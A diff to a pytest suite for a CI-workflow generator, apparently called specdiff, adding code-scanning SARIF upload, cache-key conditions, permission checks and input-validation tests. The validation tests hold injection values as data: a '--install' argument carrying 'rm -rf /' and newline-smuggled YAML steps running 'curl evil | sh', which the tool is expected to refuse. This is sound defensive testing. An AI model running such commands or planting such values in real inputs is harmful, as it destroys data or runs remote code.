@@ -35,6 +35,7 @@ VARIANTS = {
     "quoted-values": CiSettings(state_dir="state dir's", out_dir="out: here #1", cache_dir="c ache", install="./tools/specdiff"),
     "git-install": CiSettings(install="git+https://github.com/example/specdiff@0123456789abcdef0123456789abcdef01234567"),
     "pull-request": CiSettings(trigger="pull-request"),
+    "pull-request-code-scanning": CiSettings(trigger="pull-request", code_scanning=True),
     "pull-request-lock": CiSettings(trigger="pull-request", pin_file="deps/uv.lock", services=("sagemaker",), fail_on="info"),
 }
 
@@ -97,12 +98,17 @@ def test_every_action_is_a_current_major_pinned_by_commit(name: str) -> None:
     # the node24 majors: none of the node20 ones GitHub warns about on every run
     assert majors.get("checkout", 7) >= 7 and majors.get("setup-python", 7) >= 7
     assert majors.get("cache", 5) >= 5 and majors.get("upload-artifact", 7) >= 7
+    assert majors.get("codeql-action", 4) >= 4
 
 
 def test_permissions_are_minimal() -> None:
     assert workflow(CiSettings())["permissions"] == {"contents": "read"}
     assert workflow(CiSettings(state_store="commit"))["permissions"] == {"contents": "write"}
     assert workflow(CiSettings(trigger="pull-request"))["permissions"] == {"contents": "read"}
+    scanning = workflow(CiSettings(trigger="pull-request", code_scanning=True))
+    # upload-sarif reads the workflow run (its analysis key): without actions: read, every
+    # private repository's upload is refused
+    assert scanning["permissions"] == {"contents": "read", "security-events": "write", "actions": "read"}
     found = steps(workflow(CiSettings()))
     assert found["actions/checkout"]["with"]["persist-credentials"] is False
 
@@ -125,10 +131,20 @@ def test_the_workflow_keeps_state_wheels_and_formatted_stubs() -> None:
         assert restore["with"]["path"] == save["with"]["path"] == path
         assert restore["with"]["restore-keys"].strip().endswith("-")
         # saved even when the watch failed on --fail-on, or the next run would report it again
-        assert save["if"] == "always()"
+        assert save["if"] == "always()" or save["if"].startswith("${{ always() && ")
         assert order.index(f"Restore the {what}") < order.index("Compare what is new") < order.index(f"Save the {what}")
     # the wheels are saved under the new state's hash: only when the state moved
-    assert "hashFiles('state dir/*.json')" in found["Save the botocore wheels"]["with"]["key"]
+    save = found["Save the botocore wheels"]
+    assert save["with"]["key"] == "specdiff-wheels-${{ hashFiles('state dir/*.json') }}"
+    # ... and not tried when it did not: a save under a key that exists packs the whole
+    # cache, then fails with a warning on every quiet night. The condition compares the
+    # entry restored with exactly the key the save would use.
+    restore = found["Restore the botocore wheels"]
+    condition = re.fullmatch(r"\$\{\{ always\(\) && steps\.(\w+)\.outputs\.cache-matched-key != format\('(.*?)', (hashFiles\(.*\))\) \}\}", save["if"])
+    assert condition is not None, save["if"]
+    step_id, template, digest = condition.groups()
+    assert restore["id"] == step_id
+    assert template.replace("{0}", "${{ " + digest + " }}") == save["with"]["key"]
     assert workflow(settings)["jobs"]["watch"]["env"]["SPECDIFF_CACHE"] == settings.cache_dir
     assert "--cache" in run_command(workflow(settings))
     # a folder source needs no wheels
@@ -234,11 +250,16 @@ def pull_request_checkout(tmp_path: Path, base: str, head: str, pin_file: str = 
 
 @pytest.mark.parametrize(("fail_on", "code"), [("breaking", 0), ("warning", 1)])
 def test_the_pull_request_check_compares_the_two_pins(tmp_path: Path, fail_on: str, code: int) -> None:
+    import gzip
+    import json
+
+    import jsonschema
+
     cache = tmp_path / "wheels"
     for version in ("1.13.1", "1.13.2"):
         build_wheel(version, cache)
     repo = pull_request_checkout(tmp_path, "1.13.1", "1.13.2")
-    settings = CiSettings(trigger="pull-request", fail_on=fail_on, cache_dir=str(cache), services=("sagemaker",))
+    settings = CiSettings(trigger="pull-request", fail_on=fail_on, cache_dir=str(cache), services=("sagemaker",), code_scanning=True)
     document = workflow(settings)
     assert document["on"] == {"pull_request": {"paths": ["requirements.txt"]}}
     found = steps(document)
@@ -247,7 +268,7 @@ def test_the_pull_request_check_compares_the_two_pins(tmp_path: Path, fail_on: s
     runner_temp = tmp_path / "runner-temp"
     runner_temp.mkdir()
     env = {**document["jobs"]["botocore"]["env"], "RUNNER_TEMP": str(runner_temp), "GITHUB_WORKSPACE": str(repo),
-           "GITHUB_STEP_SUMMARY": str(tmp_path / "summary.md"), "PIP_NO_INDEX": "1"}
+           "GITHUB_STEP_SUMMARY": str(tmp_path / "summary.md"), "GITHUB_OUTPUT": str(tmp_path / "output"), "PIP_NO_INDEX": "1"}
     result = bash(script, repo, env)
     assert result.returncode == code, result.stdout + result.stderr
     summary = (tmp_path / "summary.md").read_text()
@@ -257,6 +278,17 @@ def test_the_pull_request_check_compares_the_two_pins(tmp_path: Path, fail_on: s
     assert {c for c, _, _ in commands} == ({"error"} if code else {"warning"})
     # each annotation sits on the line of the pull request's pin
     assert {(p["file"], p["line"]) for _, p, _ in commands} == {("requirements.txt", "3")}
+    # the SARIF for code scanning: valid, every result on the pin's line
+    (output,) = (tmp_path / "output").read_text().splitlines()
+    sarif = json.loads(Path(output.removeprefix("sarif=")).read_text())
+    schema = json.loads(gzip.decompress((Path(__file__).resolve().parents[2] / "fixtures/schemas/sarif-schema-2.1.0.json.gz").read_bytes()))
+    jsonschema.Draft4Validator(schema).validate(sarif)
+    places = {(r["locations"][0]["physicalLocation"]["artifactLocation"]["uri"], r["locations"][0]["physicalLocation"]["region"]["startLine"])
+              for r in sarif["runs"][0]["results"]}
+    assert places == {("requirements.txt", 3)}
+    upload = found["Upload to code scanning"]
+    assert upload["uses"].startswith("github/codeql-action/upload-sarif@")
+    assert "!cancelled()" in upload["if"] and upload["with"]["sarif_file"] == "${{ steps.compare.outputs.sarif }}"
 
 
 def test_the_pull_request_check_passes_a_new_pin_file(tmp_path: Path) -> None:
@@ -296,12 +328,27 @@ def test_init_ci_writes_the_workflows_where_github_looks(tmp_path: Path, monkeyp
     "args",
     [["--schedule", "daily"], ["--install", "specdiff; rm -rf /"], ["--format", "pdf"], ["--install", "specdiff"],
      ["--install", "specdiff==0.1.0"], ["--install", "--index-url=http://x"], ["--on", "pull-request", "--pin-file", "../x.txt"],
-     ["--on", "pull-request", "--pin-file", "a'b.txt"]],
+     ["--on", "pull-request", "--pin-file", "a'b.txt"], ["--code-scanning"]],
 )
 def test_init_ci_refuses_what_would_break_the_workflow(tmp_path: Path, args: list[str]) -> None:
     result = CliRunner().invoke(app, ["init-ci", "-o", str(tmp_path / "w.yml"), "--install", ".", *args])
     assert result.exit_code == 2 and "specdiff: error:" in result.stderr
     assert not (tmp_path / "w.yml").exists()
+
+
+@pytest.mark.parametrize("option", ["--service", "--exclude-service", "--operation", "--source", "--state", "--out", "--cache", "--since", "--python", "--workdir"])
+@pytest.mark.parametrize("mode", [[], ["--on", "pull-request"], ["--cron"]])
+@pytest.mark.parametrize("breaker", ["\n", "\r", "\u2028", "\x00"])
+def test_a_value_cannot_break_out_of_its_line(tmp_path: Path, option: str, mode: list[str], breaker: str) -> None:
+    # a line break in a value ended the `run: |` script: what followed was YAML (a new
+    # step, "run: curl evil | sh"), or in a crontab a new entry
+    value = f"s3{breaker}      - name: evil{breaker}        run: curl evil | sh"
+    out = tmp_path / "w.yml"
+    result = CliRunner().invoke(app, ["init-ci", "-o", str(out), "--install", ".", *mode, option, value])
+    assert result.exit_code == 2, result.output
+    (line,) = result.stderr.splitlines()
+    assert line.startswith(f"specdiff: error: {option}: ") and "line break or control character" in line
+    assert not out.exists()
 
 
 def test_specdiff_by_name_is_refused_with_the_way_out(tmp_path: Path) -> None:
@@ -356,3 +403,18 @@ def test_a_specdiff_pip_installed_from_git_installs_that_commit(tmp_path: Path, 
 
     monkeypatch.setattr(metadata, "distribution", lambda name: Installed())
     assert default_install(tmp_path / "site-packages" / "specdiff", tmp_path) == f"git+https://github.com/example/specdiff@{'ab' * 20}"
+
+
+def test_docs_show_the_crontab_init_ci_writes() -> None:
+    docs = (Path(__file__).resolve().parents[2] / "docs" / "ci.md").read_text()
+    (entry,) = [line for line in render_crontab(CiSettings()).splitlines() if line.startswith("17 6 ")]
+    assert entry in docs.splitlines()
+
+
+def test_every_text_setting_is_checked_for_line_breaks() -> None:
+    import dataclasses
+
+    from specdiff.job.workflow import _OPTIONS
+
+    texts = {f.name for f in dataclasses.fields(CiSettings) if not isinstance(getattr(CiSettings(), f.name), (bool, int))}
+    assert texts == set(_OPTIONS)
